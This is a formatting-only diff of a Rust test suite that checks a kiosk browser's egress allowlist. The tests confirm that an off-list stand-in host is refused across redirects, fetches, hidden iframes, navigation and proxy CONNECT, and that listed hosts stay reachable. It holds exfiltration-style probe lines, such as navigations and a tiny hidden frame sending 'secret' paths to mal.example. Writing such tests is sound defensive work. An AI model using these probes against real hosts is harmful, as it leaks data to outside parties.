@@ -1,5 +1,6 @@
-//! Rows 4 and 5: hosts off the list are not reached, in any spelling, by any route, as a page or as a part of one; not one
-//! packet leaves. And the hosts of the list are, by every means a groupware uses.
+//! Rows 4 and 5: hosts off the list are not reached, in any spelling, by any route, as a page or as
+//! a part of one; not one packet leaves. And the hosts of the list are, by every means a groupware
+//! uses.
 
 use crate::lure::{Lured, lured};
 use crate::schemes::by_every_route;
@@ -49,7 +50,10 @@ fn a_host_off_the_list_is_refused_in_every_spelling_by_every_route() {
     // By redirect, each method of it.
     for (number, status) in [301, 302, 303, 307, 308].into_iter().enumerate() {
         let path = format!("/off-{number}");
-        lured.trap.serve(&path, Answer::status(status, "").field("Location", "https://mal.example/redirected"));
+        lured.trap.serve(
+            &path,
+            Answer::status(status, "").field("Location", "https://mal.example/redirected"),
+        );
         lured.refuses(&format!("setTimeout(() => location = {path:?}, 0)"));
         let read = lured.page.run(&format!(
             "try {{ return 'read ' + (await fetch({path:?}, {{ mode: 'no-cors', method: 'POST', body: 'x' }})).type }} catch {{ return 'refused' }}"
@@ -57,7 +61,13 @@ fn a_host_off_the_list_is_refused_in_every_spelling_by_every_route() {
         assert_eq!(read, "refused");
     }
     lured.unmoved();
-    assert!(lured.trap.requests().iter().all(|request| request.host == HOST || request.host == NEIGHBOUR));
+    assert!(
+        lured
+            .trap
+            .requests()
+            .iter()
+            .all(|request| request.host == HOST || request.host == NEIGHBOUR)
+    );
     tried.held();
     lured.leave("places off the list");
 }
@@ -65,12 +75,17 @@ fn a_host_off_the_list_is_refused_in_every_spelling_by_every_route() {
 #[test]
 fn the_person_is_told_and_the_log_names_no_address() {
     let lured = lured();
-    let tried = attempt(4, "what the person sees of a refused page, with and without a touch, and of a refused frame");
+    let tried = attempt(
+        4,
+        "what the person sees of a refused page, with and without a touch, and of a refused frame",
+    );
     let notice = |lured: &Lured| touch::notice(&lured.world.terminal.look());
     assert!(notice(&lured).is_none());
     // A frame that fills itself is not worth a word.
     let frame = "const f = document.createElement('iframe'); f.src = 'https://mal.example/secret-frame'; f.style = 'width: 9px; height: 9px'; document.body.append(f);";
-    lured.page.run(&format!("{frame} await fetch('/fence'); await fetch('/fence'); return 'there'"));
+    lured
+        .page
+        .run(&format!("{frame} await fetch('/fence'); await fetch('/fence'); return 'there'"));
     assert!(notice(&lured).is_none(), "a word about a frame");
     for script in [
         "location = 'https://mal.example/secret-path?secret-query'",
@@ -80,7 +95,8 @@ fn the_person_is_told_and_the_log_names_no_address() {
         lured.dismiss_notice();
         lured.unmoved();
     }
-    let pending = lured.page.on_touch("location = 'https://mal.example/secret-path'; return 'sent'");
+    let pending =
+        lured.page.on_touch("location = 'https://mal.example/secret-path'; return 'sent'");
     lured.touch(crate::lure::MIDDLE);
     pending.outcome();
     lured.dismiss_notice();
@@ -149,12 +165,25 @@ fn a_part_of_a_page_from_a_host_off_the_list_is_refused() {
         .run(&format!("const host = {EVIL:?}; {PARTS} {QUIET} return parts.filter(part => !part.endsWith('refused'))"));
     assert_eq!(parts, "[]");
     lured.unmoved();
-    // Positive control: the same parts of a listed host are asked for. Sound and film play nowhere (`browser::features`).
+    // Positive control: the same parts of a listed host are asked for. Sound and film play nowhere
+    // (`browser::features`).
     lured.page.run(&format!("const host = {NEIGHBOUR:?}; {PARTS} return parts"));
     let heard: Vec<String> =
         lured.trap.requests().into_iter().filter(|r| r.host == NEIGHBOUR).map(|r| r.path).collect();
-    for path in ["/image.png", "/script.js", "/sheet.css", "/fetch", "/socket", "/events", "/font.woff2", "/worker"] {
-        assert!(heard.iter().any(|asked| asked == path), "{path} of a listed host was not asked for: {heard:?}");
+    for path in [
+        "/image.png",
+        "/script.js",
+        "/sheet.css",
+        "/fetch",
+        "/socket",
+        "/events",
+        "/font.woff2",
+        "/worker",
+    ] {
+        assert!(
+            heard.iter().any(|asked| asked == path),
+            "{path} of a listed host was not asked for: {heard:?}"
+        );
     }
     lured.unmoved();
     tried.held();
@@ -179,7 +208,9 @@ fn connect(lured: &Lured, authority: &str) -> (String, UnixStream) {
     });
     let mut stream = thread.join().unwrap().unwrap();
     stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
-    stream.write_all(format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n").as_bytes()).unwrap();
+    stream
+        .write_all(format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n").as_bytes())
+        .unwrap();
     let mut answer = Vec::new();
     while !answer.ends_with(b"\r\n\r\n") {
         let mut byte = [0];
@@ -192,8 +223,13 @@ fn connect(lured: &Lured, authority: &str) -> (String, UnixStream) {
 #[test]
 fn the_proxy_refuses_what_the_engine_would_not_even_ask() {
     let lured = lured();
-    let tried = attempt(5, "the same hosts asked of the egress proxy itself, as the browser's user");
-    assert_eq!(proxy(&lured, "piege.mairie.example:443"), "200", "positive control: the list is open");
+    let tried =
+        attempt(5, "the same hosts asked of the egress proxy itself, as the browser's user");
+    assert_eq!(
+        proxy(&lured, "piege.mairie.example:443"),
+        "200",
+        "positive control: the list is open"
+    );
     for authority in [
         "mal.example:443",
         "MAL.EXAMPLE:443",
@@ -232,7 +268,8 @@ fn listed_hosts_are_reached_by_websocket_and_by_http_2() {
              socket.onopen = () => socket.send('bonjour'); socket.onmessage = event => done(event.data); socket.onerror = () => done('error') })",
     );
     assert_eq!(echoed, "bonjour");
-    // This WebKitGTK (libsoup 3.2) speaks HTTP/1.1 through any proxy; the proxy itself carries HTTP/2.
+    // This WebKitGTK (libsoup 3.2) speaks HTTP/1.1 through any proxy; the proxy itself carries
+    // HTTP/2.
     let (status, stream) = connect(&lured, "groupware.mairie.example:443");
     assert_eq!(status, "200");
     assert_eq!(negotiated(&lured, stream).as_deref(), Some("h2"));
@@ -243,5 +280,10 @@ fn listed_hosts_are_reached_by_websocket_and_by_http_2() {
 /// What the groupware's web server chooses of HTTP/2 and HTTP/1.1 (RFC 7301).
 fn negotiated(lured: &Lured, stream: UnixStream) -> Option<String> {
     let authority = std::fs::read_to_string(lured.world.hall.town().variable("CA")).unwrap();
-    borne_harness::trap::faces::negotiate(stream, &authority, "groupware.mairie.example", &["h2", "http/1.1"])
+    borne_harness::trap::faces::negotiate(
+        stream,
+        &authority,
+        "groupware.mairie.example",
+        &["h2", "http/1.1"],
+    )
 }
